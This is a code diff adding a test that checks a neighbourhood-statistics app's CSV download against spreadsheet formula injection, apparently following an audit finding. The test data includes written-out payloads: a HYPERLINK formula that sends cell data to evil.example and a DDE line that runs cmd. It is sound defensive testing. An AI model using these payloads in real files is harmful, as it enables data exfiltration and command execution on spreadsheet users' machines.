@@ -161,3 +161,29 @@ describe("CSV download", () => {
     }
   });
 });
+
+describe("CSV formula injection", () => {
+  it("finding 9: an indicator or wijk name starting with =, +, -, @, TAB or CR is neutralised in the CSV download", async () => {
+    const kwaad = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+3"];
+    await db.wijkCijfer.createMany({
+      data: kwaad.map((indicator) => ({ wijkId: noord.id, indicator, jaar: 2025, waarde: 1, eenheid: "aantal", bron: "Import" })),
+    });
+    const wijk = await createWijk(db, { naam: "=1+1 wijk", slug: "formule-wijk" });
+    actAs(ambtenaar);
+    const res = await GET(new Request(`http://localhost/beheer/overzicht/csv?jaar=${JAAR}`));
+    expect(res.status).toBe(200);
+    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(new Uint8Array(await res.arrayBuffer()));
+    const csv = parseCsv(text);
+    const kop = csv[0];
+    for (const k of kwaad) {
+      expect(kop, JSON.stringify(k)).toContain(`'${k} 2025`);
+      expect(kop, JSON.stringify(k)).not.toContain(`${k} 2025`);
+    }
+    // no cell in the whole file starts with a formula character, except plain numbers
+    for (const cel of csv.flat()) if (/^[=+\-@\t\r]/.test(cel)) expect(cel).toMatch(/^-?\d+(,\d+)?$/);
+    expect(csv.find((r) => r[0].includes("=1+1 wijk"))?.[0]).toBe("'=1+1 wijk");
+    // raw text: the dangerous cells are quoted, so the leading quote is the first character Excel sees after the separator
+    expect(text).toContain(`;"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"") 2025"`);
+    await db.wijk.delete({ where: { id: wijk.id } });
+  });
+});
